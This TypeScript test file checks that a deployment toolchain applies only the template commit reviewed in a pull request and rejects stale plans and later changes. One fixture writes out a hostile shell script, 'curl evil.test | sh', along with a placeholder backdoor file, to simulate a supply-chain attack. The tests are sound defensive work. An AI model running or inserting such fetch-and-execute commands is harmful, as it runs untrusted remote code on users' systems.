import { describe, expect, test } from "vitest";

import { configuration, made, type Scenario, startScenario, toolchain } from "./scenario.ts";

// Between the review and the merge, somebody changes what the tools are made from.

const template = "acme/go-template";
const evil = { "run.sh": { mode: "100755" as const, content: "#!/bin/sh\ncurl evil.test | sh\n" } };
const backdoor = { ...evil, "backdoor.go": "package main // never reviewed\n" };
const workflow = ".github/workflows/build.yml";

async function planned(): Promise<Scenario & { number: number }> {
  const scenario = await startScenario();
  const number = await scenario.propose({ "dtm.yaml": configuration(scenario.github.url) }, "Add the shop");
  expect(await scenario.onPull(number)).toMatchObject({ code: 0 });
  return Object.assign(scenario, { number });
}

const last = async ({ github }: Scenario, number: number) =>
  (await github.comments(toolchain, number)).at(-1)?.body ?? "";

/** Expects the repository to be what was reviewed. */
async function asReviewed({ github }: Scenario, from: string | null): Promise<void> {
  const files = await github.tree(made, "main");
  expect(files).not.toHaveProperty(["backdoor.go"]);
  expect(files["run.sh"]).toBe("#!/bin/sh\nexec go run ./cmd/*\n");
  const downloads = github.requests.filter(({ path }) => path.includes("/zipball/"));
  expect(new Set(downloads.map(({ path }) => path.split("/").at(-1)))).toEqual(new Set([from]));
}

describe("the plan of a pull request", () => {
  test("shows the commit of the template, its files, and the secrets that will be set", async () => {
    await using scenario = await planned();
    const comment = await last(scenario, scenario.number);
    const sha = await scenario.github.sha(template, "main");
    expect(comment).toContain(`commit ${sha?.slice(0, 12)}…`);
    for (const name of ["cmd/shop/main.go", "run.sh", workflow, "IMAGE_REPO_SECRET"])
      expect(comment).toContain(name);
  });
});

describe("a template that moves between review and merge", () => {
  test("changes nothing: the reviewed commit is used", async () => {
    await using scenario = await planned();
    const reviewed = await scenario.github.sha(template, "main");
    await scenario.github.commit(template, "main", backdoor, "after the review");
    expect(await scenario.onMerge(scenario.number)).toMatchObject({
      code: 0,
      outputs: { result: "success" },
    });
    await asReviewed(scenario, reviewed);
  });

  test("changes nothing for /dtm apply either", async () => {
    await using scenario = await planned();
    const reviewed = await scenario.github.sha(template, "main");
    await scenario.github.commit(template, "main", backdoor, "after the review");
    const applied = await scenario.onComment(scenario.number, "/dtm apply");
    expect(applied).toMatchObject({ code: 0, outputs: { result: "success" } });
    await asReviewed(scenario, reviewed);
  });

  test("changes nothing for an apply that is resumed after a failure", async () => {
    await using scenario = await planned();
    const { github, number } = scenario;
    const reviewed = await github.sha(template, "main");
    const before = await scenario.head();
    const fault = github.fail({ method: "POST", path: /shop\/git\/trees/, status: 422 });
    expect(await scenario.onMerge(number)).toMatchObject({ code: 1 });
    expect(fault.left()).toBe(0);
    await github.commit(template, "main", backdoor, "after the failure");
    expect(await scenario.onPush(before)).toMatchObject({ code: 0, outputs: { result: "success" } });
    await asReviewed(scenario, reviewed);
  });

  test("changes nothing for merges that are applied together: each tool is made as it was reviewed", async () => {
    await using scenario = await startScenario();
    const { github } = scenario;
    const given = { inputs: { config: "stack" } };
    const base = { "stack/base.yaml": "config: { state: { backend: branch } }\n" };
    const seed = await scenario.propose({ ...base, "stack/zero.yaml": repository("zero") }, "Zero");
    await scenario.onPull(seed, "opened", given);
    await scenario.onMerge(seed, given);
    const [first, second] = [
      await scenario.propose({ "stack/shop.yaml": repository("shop") }, "Shop"),
      await scenario.propose({ "stack/cart.yaml": repository("cart") }, "Cart"),
    ];
    await scenario.onPull(first, "opened", given);
    await github.commit(template, "main", { "two.txt": "for the second\n" }, "between the reviews");
    await scenario.onPull(second, "opened", given);
    await github.commit(template, "main", backdoor, "after the reviews");
    await github.merge(toolchain, first);
    const applied = await scenario.onMerge(second, given);
    expect(applied).toMatchObject({ code: 0, outputs: { result: "success", create: "2" } });
    const [shop, cart] = [await github.tree(made, "main"), await github.tree("acme/cart", "main")];
    expect(shop).not.toHaveProperty(["two.txt"]);
    expect(cart).toHaveProperty(["two.txt"]);
    for (const files of [shop, cart]) expect(files).not.toHaveProperty(["backdoor.go"]);
  });
});

const repository = (name: string) => `tools:
  - name: repo-scaffolding
    instanceID: ${name}
    options:
      sourceRepo: { org: acme, name: go-template, scmType: github, token: "[[ env TOOLCHAIN_TOKEN ]]" }
      destinationRepo: { org: acme, name: ${name}, scmType: github, token: "[[ env TOOLCHAIN_TOKEN ]]" }
      vars: { team: ${name} }
`;

describe("a download that moves between review and merge", () => {
  const other = { ".ci/build.yml": "name: Evil\non: push\njobs: {}\n" };

  test("stops the apply as stale, and is named", async () => {
    await using scenario = await planned();
    const { github, number } = scenario;
    await github.commit(template, "main", { ...backdoor, ...other }, "after the review");
    expect(await scenario.onMerge(number)).toMatchObject({ code: 5, outputs: { result: "stale-plan" } });
    expect(await github.sha(made, "main").catch(() => null)).toBeNull();
    expect(await last(scenario, number)).toMatch(
      /github-actions\.shop: configLocation: sha256:\w+ now, sha256:\w+ in the review/,
    );
  });

  test("can then be reviewed and applied by a comment", async () => {
    await using scenario = await planned();
    const { github, number } = scenario;
    await github.commit(template, "main", other, "after the review");
    await scenario.onMerge(number);
    expect(await scenario.onComment(number, "/dtm apply")).toMatchObject({ code: 0 });
    expect(await github.read(made, "main", workflow)).toBe(other[".ci/build.yml"]);
  });

  test("never shows as drift, and leads to no request", async () => {
    await using scenario = await planned();
    const { github, number } = scenario;
    await scenario.onMerge(number);
    await github.commit(template, "main", { ...backdoor, ...other }, "later");
    const seen = github.requests.length;
    const next = await scenario.propose({ "README.md": "Changed.\n" }, "Something else");
    expect(await scenario.onPull(next)).toMatchObject({ outputs: { "has-changes": "false" } });
    const paths = github.requests.slice(seen).map(({ path }) => path);
    expect(paths.filter((path) => path.includes("go-template"))).toEqual([]);
  });
});

describe("a repository that moves between review and merge", () => {
  test("stops the apply of a workflow that somebody else has changed since", async () => {
    await using scenario = await planned();
    const { github, number } = scenario;
    await scenario.onMerge(number);
    await github.commit(made, "main", { [workflow]: "name: Mine\n" }, "by hand");
    const next = await scenario.propose({ "README.md": "Changed.\n" }, "Something else");
    await scenario.onPull(next);
    const comment = await last(scenario, next);
    expect(comment).toContain(`<code>${workflow}</code> (`);
    expect(comment).toContain("Last changed by [`alice`](");
    await github.commit(made, "main", { [workflow]: "name: Mine again\n" }, "by hand");
    expect(await scenario.onMerge(next)).toMatchObject({ code: 5, outputs: { result: "stale-plan" } });
    expect(await github.read(made, "main", workflow)).toBe("name: Mine again\n");
  });

  test("stops the apply of files for its default branch that have been added since", async () => {
    await using scenario = await startScenario();
    const { github } = scenario;
    await github.repo(made, { files: { "run.sh": "echo mine\n" } });
    const text = configuration(github.url)
      .replace("name: [[ app ]], branch: main", "name: [[ app ]], branch: dev")
      .replace("dependsOn:", "lifecycle: { adopt: true }\n    dependsOn:")
      .replace(
        "instanceID: [[ app ]]\n    options",
        "instanceID: [[ app ]]\n    lifecycle: { adopt: true }\n    options",
      );
    const number = await scenario.propose({ "dtm.yaml": text }, "Adopt the shop");
    expect(await scenario.onPull(number)).toMatchObject({ code: 0 });
    await github.commit(made, "main", { "go.mod": "module mine\n" }, "by hand");
    expect(await scenario.onMerge(number)).toMatchObject({ code: 5, outputs: { result: "stale-plan" } });
    expect(await last(scenario, number)).toContain("repo-scaffolding.shop: go.mod was in the review");
    expect(await github.read(made, "main", "go.mod")).toBe("module mine\n");
  });
});
